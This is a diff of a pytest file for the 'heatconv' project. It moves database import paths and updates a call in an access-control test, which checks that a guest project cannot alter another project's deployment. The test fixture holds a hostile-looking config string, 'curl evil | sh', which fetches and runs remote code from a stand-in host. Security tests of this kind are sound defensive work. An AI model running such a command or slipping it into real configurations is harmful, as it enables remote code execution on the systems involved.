@@ -11,9 +11,9 @@ from __future__ import annotations
 import pytest
 
 from heatconv import errors
-from heatconv.db import software_deployments
-from heatconv.db.session import Database
-from heatconv.db.software_configs import UNLIMITED
+from heatconv.db.plumbing.session import Database
+from heatconv.db.software import deployments
+from heatconv.db.software.configs import UNLIMITED
 from heatconv.engine.software import Software
 from heatconv.model.software import SoftwareDeployment
 from heatconv.rpc.context import RequestContext
@@ -92,7 +92,7 @@ def test_whom_the_service_shows_a_deployment_to_may_not_change_it(software, data
     shown = SoftwareDeployment(
         id="d", server_id=SERVER, config_id=config, status="IN_PROGRESS", stack_user_project_id="guests"
     )
-    software_deployments.add_deployment(database, VICTIM.project_id, shown, UNLIMITED)
+    deployments.add_deployment(database, VICTIM.project_id, shown, UNLIMITED)
     guest = RequestContext(project_id="guests")
     own = software.create_software_config(guest, {"config": "curl evil | sh"})["id"]
 
